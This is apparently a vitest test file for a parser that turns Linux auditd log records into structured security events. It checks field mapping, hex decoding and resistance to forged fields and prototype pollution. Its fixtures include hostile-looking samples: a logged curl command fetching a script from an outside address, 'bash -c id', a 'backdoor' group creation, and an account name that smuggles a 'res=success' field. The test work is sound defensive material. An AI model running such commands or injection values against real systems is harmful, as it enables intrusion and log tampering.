import { describe, expect, it } from 'vitest';
import type { SecurityEvent } from '../../core/index.ts';
import { chooseParser } from '../registry.ts';
import { auditdParser, MALFORMED_AUDIT, NOT_AUDIT } from './index.ts';
import { MAX_FIELDS } from './read-audit-record.ts';

// Records written here in the forms the audit documentation and auditd's sources give: kernel
// records (SYSCALL, EXECVE, PROCTITLE, PATH) and user-space ones (fields in msg='...').
const hex = (text: string) => Buffer.from(text, 'utf8').toString('hex').toUpperCase();

function parse(line: string): SecurityEvent | string {
  let parsed: SecurityEvent | undefined;
  const result = auditdParser.create({}).parseLine(line, (event) => (parsed = event));
  return result ?? (parsed as SecurityEvent);
}

function event(line: string): SecurityEvent {
  const parsed = parse(line);
  if (typeof parsed === 'string') throw new Error(`skipped: ${parsed}`);
  return parsed;
}

const PAM_FAILURE =
  'type=USER_AUTH msg=audit(1709546402.318:731): pid=2231 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg=\'op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed\'';

describe('auditd parser', () => {
  it("reads a user-space record's own fields as Filebeat's auditd module names them", () => {
    const parsed = event(PAM_FAILURE);
    expect(parsed['@timestamp']).toBe('2024-03-04T10:00:02.318Z');
    expect(parsed.event).toMatchObject({
      module: 'auditd',
      dataset: 'auditd.log',
      kind: 'event',
      action: 'user_auth',
      category: ['authentication'],
      type: ['info'],
      outcome: 'failure',
      original: PAM_FAILURE,
    });
    expect(parsed.user).toEqual({ name: 'root', id: '0' });
    expect(parsed.source).toEqual({ ip: '203.0.113.9', address: '203.0.113.9' });
    expect(parsed.process).toEqual({ pid: 2231, executable: '/usr/sbin/sshd' });
    expect(parsed.auditd).toEqual({
      log: expect.objectContaining({
        record_type: 'USER_AUTH',
        sequence: 731,
        op: 'PAM:authentication',
        acct: 'root',
        terminal: 'ssh',
        res: 'failed',
      }),
    });
    // `grantors=?` is a value auditd did not have: left out.
    expect((parsed.auditd as { log: object }).log).not.toHaveProperty('grantors');
  });

  it('decodes hexadecimal text, and an unknown account names nobody', () => {
    const parsed = event(
      `node=web-01 type=USER_LOGIN msg=audit(1709546402.5:732): pid=2232 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=${hex('(invalid user)')} exe="/usr/sbin/sshd" hostname=? addr=2001:DB8::7 terminal=ssh res=failed'`,
    );
    expect(parsed.user).toEqual({ id: '0' });
    expect((parsed.auditd as { log: Record<string, unknown> }).log.acct).toBe('(invalid user)');
    expect(parsed.source).toEqual({ ip: '2001:db8::7', address: '2001:db8::7' });
    expect(parsed.host).toEqual({ name: 'web-01' });
    expect(parsed['@timestamp']).toBe('2024-03-04T10:00:02.500Z');
  });

  it("gives an EXECVE's arguments, quoted or encoded, as process.args", () => {
    const parsed = event(
      `type=EXECVE msg=audit(1709546410.000:801): argc=3 a0="curl" a1=${hex('-o /tmp/x')} a2="http://198.51.100.5/x.sh"`,
    );
    expect(parsed.process).toEqual({
      args: ['curl', '-o /tmp/x', 'http://198.51.100.5/x.sh'],
      args_count: 3,
      command_line: 'curl -o /tmp/x http://198.51.100.5/x.sh',
    });
    expect(parsed.event).toMatchObject({ category: ['process'], type: ['start'], action: 'execve' });
    expect((parsed.auditd as { log: Record<string, unknown> }).log.a1).toBe('-o /tmp/x');
  });

  it("keeps a SYSCALL's hexadecimal arguments as numbers are written, and reads its process", () => {
    const parsed = event(
      'type=SYSCALL msg=audit(1709546410.000:801): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8 a1=55d0d0 a2=55d0e8 a3=0 items=2 ppid=2240 pid=2241 auid=1000 uid=1000 gid=1000 euid=0 suid=0 fsuid=0 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=4 comm="curl" exe="/usr/bin/curl" key="exec"',
    );
    expect((parsed.auditd as { log: Record<string, unknown> }).log).toMatchObject({
      a0: '55d0c8',
      a3: '0',
      key: 'exec',
      syscall: '59',
    });
    expect(parsed.process).toEqual({
      pid: 2241,
      parent: { pid: 2240 },
      executable: '/usr/bin/curl',
      name: 'curl',
    });
    expect(parsed.user).toEqual({ id: '1000', audit: { id: '1000' }, effective: { id: '0' } });
    expect(parsed.event.outcome).toBe('success');
  });

  it('reads a PROCTITLE as the command line, its NUL-separated arguments as words', () => {
    const title = Buffer.concat([
      Buffer.from('bash'),
      Buffer.from([0]),
      Buffer.from('-c'),
      Buffer.from([0]),
      Buffer.from('id'),
    ]).toString('hex');
    const parsed = event(`type=PROCTITLE msg=audit(1709546410.000:801): proctitle=${title}`);
    expect(parsed.process).toEqual({ command_line: 'bash -c id' });
  });

  it('files account changes as IAM events naming the account acted on', () => {
    const parsed = event(
      'type=ADD_USER msg=audit(1709546420.000:900): pid=2300 uid=0 auid=1000 ses=4 msg=\'op=add-user id=1001 exe="/usr/sbin/useradd" hostname=web-01 addr=? terminal=pts/0 res=success\'',
    );
    expect(parsed.event).toMatchObject({ category: ['iam'], type: ['user', 'creation'], outcome: 'success' });
    const withAccount = event(
      'type=ADD_GROUP msg=audit(1709546420.000:901): pid=2300 uid=0 auid=1000 ses=4 msg=\'op=add-group acct="backdoor" exe="/usr/sbin/groupadd" hostname=? addr=? terminal=? res=success\'',
    );
    expect(withAccount.user).toMatchObject({ name: 'backdoor', target: { name: 'backdoor' } });
    expect(withAccount.source).toBeUndefined();
    expect(parsed.user).toEqual({ id: '0', audit: { id: '1000' }, target: { id: '1001' } });
    // The shadow tools write `op` unencoded, spaces and all.
    const spaced = event(
      'type=ADD_GROUP msg=audit(1709546420.000:902): pid=2300 uid=0 auid=1000 ses=4 msg=\'op=adding group to /etc/group id=1002 exe="/usr/sbin/groupadd" hostname=web-01 addr=127.0.0.1 terminal=pts/0 res=success\'',
    );
    expect((spaced.auditd as { log: Record<string, unknown> }).log).toMatchObject({
      op: 'adding group to /etc/group',
      id: '1002',
    });
  });

  it("cannot be made to forge a field by a ' in an account name, nor to set an object's prototype", () => {
    // auditd encodes a value with a space or a double quote, not one with a single quote.
    const forged = event(
      'type=USER_AUTH msg=audit(1709546402.318:733): pid=2233 uid=0 msg=\'op=PAM:authentication acct="x\'res=success" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed\'',
    );
    expect(forged.event.outcome).toBe('failure');
    expect(forged.user).toMatchObject({ name: "x'res=success" });
    const polluting = event(
      'type=SYSCALL msg=audit(1709546410.000:802): __proto__=7 constructor=8 toString=9 pid=1',
    );
    const log = (polluting.auditd as { log: Record<string, unknown> }).log;
    expect(Object.getPrototypeOf(log)).toBe(Object.prototype);
    expect(Object.keys(log)).toEqual(['record_type', 'sequence', 'pid']);
  });

  it('skips what is no audit record, and a record it cannot read, with a reason', () => {
    expect(parse('Mar  4 10:00:02 web-01 sshd[2231]: Failed password for root from 203.0.113.9')).toBe(
      NOT_AUDIT,
    );
    expect(parse('type=USER_AUTH msg=audit(1709546402.318): pid=1')).toBe(NOT_AUDIT);
    expect(parse('type=USER_AUTH msg=audit(1709546402.318:1): acct="root pid=1')).toBe(MALFORMED_AUDIT);
    expect(parse("type=USER_AUTH msg=audit(1709546402.318:1): msg='op=x")).toBe(MALFORMED_AUDIT);
    expect(parse('type=USER_AUTH msg=audit(999999999999.000:1): pid=1')).toBe(MALFORMED_AUDIT);
  });

  it('keeps at most MAX_FIELDS fields of a record', () => {
    const args = Array.from({ length: MAX_FIELDS * 2 }, (_, i) => `a${i}="x"`).join(' ');
    const parsed = event(`type=EXECVE msg=audit(1709546410.000:803): argc=${MAX_FIELDS * 2} ${args}`);
    expect(Object.keys((parsed.auditd as { log: object }).log).length).toBe(MAX_FIELDS + 2);
    expect((parsed.process as { args: string[] }).args.length).toBe(MAX_FIELDS - 1);
  });

  it('is the format chosen for an audit log, and not for a syslog file', () => {
    const choice = chooseParser([
      PAM_FAILURE,
      'type=DAEMON_START msg=audit(1709546400.000:1): op=start ver=3.1',
    ]);
    expect(choice.kind === 'found' && choice.parser.format).toBe('auditd');
    expect(auditdParser.sniff(['Mar  4 10:00:02 web-01 sshd[2231]: Accepted password for bob'])).toBe(0);
  });
});
